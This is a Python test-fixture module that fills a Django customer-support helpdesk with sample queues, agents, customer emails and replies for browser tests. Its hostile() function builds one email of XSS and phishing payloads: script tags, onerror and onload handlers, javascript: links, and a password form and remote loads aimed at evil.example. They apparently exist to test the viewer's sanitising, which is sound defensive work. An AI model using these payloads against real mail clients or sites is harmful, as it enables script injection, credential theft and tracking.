"""A desk with believable work on it: for the tests in a browser, and to look at.

manage.py shell -c "from tests.desk.world import fill; fill()"
"""

import tomllib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from datetime import datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime
from itertools import count, cycle
from pathlib import Path
from typing import Any
from unicodedata import normalize
from zlib import compress, crc32

from django.utils import timezone

from agents.models import Agent
from crm.models import Organisation
from mailsenders.models import OutgoingMail
from queues import actions
from queues.letters import Reply
from queues.models import Conversation, EmailQueue, Message
from tests.make import make_agent, make_queue, make_sender, make_supervisor, receive

SIGNATURE = "Kind regards\nExample Outfitters, customer care\n+44 20 7946 0018"
_numbers = count(1)


@dataclass(frozen=True)
class Topic:
    """What people write about, in their language."""

    queue: str
    language: str
    subject: str
    text: str


_WORDS = tomllib.loads(Path(__file__).with_name("topics.toml").read_text(encoding="utf-8"))
TOPICS = [Topic(**topic) for topic in _WORDS["topics"]]
PEOPLE = {language: words["people"] for language, words in _WORDS["languages"].items()}
THANKS = {language: words["thanks"] for language, words in _WORDS["languages"].items()}
ANSWERS = {language: words["answer"] for language, words in _WORDS["languages"].items()}


def address(name: str) -> str:
    """An address made of a name."""
    plain = "".join(each for each in normalize("NFKD", name.lower()).replace(" ", ".") if each.isascii())
    return f"{plain}@customer.example"


def letter(name: str, subject: str, text: str, at: datetime, answers: Message | None = None) -> EmailMessage:
    """A mail as a person sends it."""
    mail = EmailMessage()
    mail["From"] = f'"{name}" <{address(name)}>'
    mail["To"] = "support@example.com"
    mail["Subject"] = subject
    mail["Date"] = format_datetime(at)
    mail["Message-ID"] = f"<desk-{next(_numbers)}-{crc32(text.encode())}@customer.example>"
    quoted = ""
    if answers:
        mail["In-Reply-To"] = f"<{answers.message_id}>"
        mail["References"] = " ".join(f"<{each}>" for each in [*answers.references, answers.message_id])
        quoted = "\n".join(f"> {line}" for line in answers.text[:400].splitlines())
        quoted = f"\n\nOn {at:%d %b %Y}, Support <support@example.com> wrote:\n{quoted}"
    mail.set_content(f"{text}\n\n{name}\n{quoted}")
    return mail


def picture() -> bytes:
    """A small PNG with a gradient."""
    width, height = 96, 64
    rows = b"".join(
        b"\0" + bytes(value for x in range(width) for value in (90 + x, 120 + y, 170 - x // 2))
        for y in range(height)
    )

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4) + kind + data + crc32(kind + data).to_bytes(4)

    head = width.to_bytes(4) + height.to_bytes(4) + bytes([8, 2, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", compress(rows)) + chunk(b"IEND", b"")


def rich(name: str, subject: str, at: datetime) -> EmailMessage:
    """An HTML mail with a table, an inline picture, a tracking image and two files."""
    mail = letter(name, subject, "Please see the order below.", at)
    mail.add_alternative(
        '<html><body style="font-family:Arial"><p>Hello,</p>'
        "<p>this is the order that arrived <b>incomplete</b>:</p>"
        '<table border="1" cellpadding="6" cellspacing="0" style="border-collapse:collapse">'
        '<tr bgcolor="#eef2f7"><th align="left">Article</th><th>Pieces</th><th>Price</th></tr>'
        "<tr><td>Rain jacket, blue</td><td>1</td><td>84.90</td></tr>"
        "<tr><td>Walking socks</td><td>3</td><td>29.70</td></tr></table>"
        "<p>The seam looks like this:</p>"
        '<p><img src="cid:seam@customer.example" width="192" alt="the seam"></p>'
        '<p><img src="https://tracker.example/open.gif" width="1" height="1">Thanks!</p>'
        '<p style="color:#777">Sent from my tablet</p></body></html>',
        subtype="html",
    )
    html = mail.get_payload()[1]  # type: ignore[index]
    html.add_related(picture(), "image", "png", cid="<seam@customer.example>")  # type: ignore[union-attr]
    mail.add_attachment(picture(), maintype="image", subtype="png", filename="label.png")
    mail.add_attachment(
        b"%PDF-1.4 nothing in it\n", maintype="application", subtype="pdf", filename="Receipt März 2026.pdf"
    )
    return mail


def hostile(name: str, subject: str, at: datetime) -> EmailMessage:
    """An HTML mail that tries to run scripts and to load things."""
    mail = letter(name, subject, "A mail that means no good.", at)
    mail.add_alternative(
        "<p>harmless words</p><script>document.title='run'; fetch('/stolen-by-script')</script>"
        "<img src=x onerror=\"fetch('/stolen-by-onerror')\"><svg onload=\"fetch('/stolen-by-svg')\"></svg>"
        "<iframe src=\"javascript:fetch('/stolen-by-frame')\"></iframe><style>@import 'https://evil.example/a.css';</style>"
        '<link rel="stylesheet" href="https://evil.example/b.css"><div style="background:url(https://evil.example/c.png)">b</div>'
        '<form action="https://evil.example/"><input name="password"><button>go</button></form>'
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">'
        '<a href="javascript:alert(1)">click</a><img src="https://evil.example/pixel.gif">'
        '<object data="https://evil.example/o"></object>'
        '<video src="https://evil.example/v.mp4" autoplay></video>',
        subtype="html",
    )
    return mail


def take_in(queue: EmailQueue, mail: EmailMessage, at: datetime) -> Message:
    """Let it come into the queue at that time."""
    return receive(queue, mail.as_bytes(), at)


def answer(agent: Agent, conversation: Conversation, text: str, at: datetime, state: str = "sent") -> Message:
    """An agent's answer of some time ago, and what became of it."""
    message = actions.reply(
        agent.user, conversation, Reply(text=text, undo_seconds=0, token=f"world-{next(_numbers)}")
    )
    Message.objects.filter(pk=message.pk).update(created_at=at, sent_at=at)
    conversation.events.filter(at__gt=at).update(at=at)
    Conversation.objects.filter(pk=conversation.pk).update(last_message_at=at)
    words = {
        "failed": "550 5.1.1 The mailbox does not exist.",
        "uncertain": "The connection broke after the text was sent.",
    }
    OutgoingMail.objects.filter(message=message).update(
        state=state, sent_at=at if state == "sent" else None, last_error=words.get(state, ""), created_at=at
    )
    message.refresh_from_db()
    return message


def staff() -> dict[str, Agent]:
    """Alice the agent, Bob the supervisor, and a colleague."""
    levels = {"en": 5, "de": 4, "cs": 4, "es": 3}
    return {
        "alice": make_agent("alice", languages=levels, skills={"billing": 4}, capacity=9),
        "bob": make_supervisor("bob", languages=levels, skills={"billing": 5}, capacity=9),
        "dora": make_agent(
            "dora", languages={"de": 5, "cs": 5}, skills={"billing": 2}, presence="away", capacity=9
        ),
    }


def queues(people: dict[str, Agent]) -> dict[str, EmailQueue]:
    """Three queues that answer from one address."""
    sender = make_sender(name="support-out", display_name="Example Outfitters")
    extra: dict[str, Any] = {"sender": sender, "signature": SIGNATURE}
    return {
        "Orders": make_queue(people.values(), name="Orders", **extra),
        "Billing": make_queue(people.values(), name="Billing", skills={"billing": 2}, **extra),
        "Returns": make_queue(people.values(), name="Returns", **extra),
    }


def fill(size: int = 64) -> None:
    """Everything that a busy morning brings."""
    now = timezone.now()
    people = staff()
    places = queues(people)
    names = {language: cycle(each) for language, each in PEOPLE.items()}
    made = list(_conversations(size, now, places, names))
    _work(made, people, now)
    _special(places, people, now)
    contact = made[0].contact
    contact.organisation = Organisation.objects.create(name="Doyle & Sons Ltd")
    contact.save(update_fields=["organisation"])


def _conversations(
    size: int, now: datetime, places: dict[str, EmailQueue], names: Mapping[str, Iterator[str]]
) -> Iterator[Conversation]:
    for number, topic in zip(range(size), cycle(TOPICS), strict=False):
        at = now - timedelta(minutes=9 + 23 * number)
        mail = letter(next(names[topic.language]), topic.subject, topic.text, at)
        if number % 9 == 2:
            mail.add_attachment(picture(), maintype="image", subtype="png", filename="photo.png")
        yield take_in(places[topic.queue], mail, at).conversation


def _work(made: list[Conversation], people: dict[str, Agent], now: datetime) -> None:
    alice, bob, dora = people["alice"], people["bob"], people["dora"]
    for row in made[3:9]:
        actions.take(alice.user, row)
    for row in made[9:15]:
        actions.take(bob.user, row)
    for row in made[30:42]:
        answer(bob, row, ANSWERS[row.language or "en"], row.created_at + timedelta(minutes=50))
    for row in made[42:54]:
        answer(alice, row, ANSWERS[row.language or "en"], row.created_at + timedelta(minutes=30))
        actions.close(alice.user, row)
    for row in made[54:57]:
        actions.snooze(bob.user, row, now + timedelta(days=1))
    actions.note(
        bob.user,
        made[5],
        "The carrier has a strike in the north until Thursday: promise nothing before Friday.",
    )
    actions.note(dora.user, made[0], "She called as well; I told her that we are looking for it.")


def _special(places: dict[str, EmailQueue], people: dict[str, Agent], now: datetime) -> None:
    alice, bob = people["alice"], people["bob"]
    orders = places["Orders"]
    first = take_in(
        orders,
        rich("Margaret Doyle", "Order 2026-11834 arrived incomplete", now - timedelta(hours=5)),
        now - timedelta(hours=5),
    )
    actions.take(alice.user, first.conversation)
    ours = answer(alice, first.conversation, ANSWERS["en"], now - timedelta(hours=4))
    actions.note(
        bob.user, first.conversation, "Give her the express delivery for free, she is an old customer."
    )
    again = letter(
        "Margaret Doyle", "Re: Order 2026-11834 arrived incomplete", THANKS["en"], now, answers=ours
    )
    take_in(orders, again, now - timedelta(minutes=3))
    for name, state in (("Samuel Okafor", "failed"), ("Priya Raman", "uncertain")):
        at = now - timedelta(hours=7)
        mail = take_in(
            orders,
            letter(name, f"Gift card does not work ({state})", "The code on my gift card is refused.", at),
            at,
        )
        answer(alice, mail.conversation, ANSWERS["en"], at + timedelta(minutes=20), state)
    take_in(orders, hostile("Nobody Good", "You have won", now), now - timedelta(minutes=1))
